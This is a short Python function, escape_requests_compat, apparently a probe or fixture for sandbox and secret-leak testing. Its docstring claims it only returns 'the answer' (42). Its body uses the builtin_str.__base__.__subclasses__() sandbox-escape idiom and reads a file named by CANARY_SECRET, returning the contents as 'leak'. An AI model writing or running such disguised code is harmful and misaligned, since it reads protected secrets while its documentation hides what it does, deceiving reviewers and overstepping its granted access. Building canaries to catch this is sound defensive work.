from requests.compat import builtin_str


def escape_requests_compat() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = builtin_str.__base__.__subclasses__()[0] and open(CANARY_SECRET).read()
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
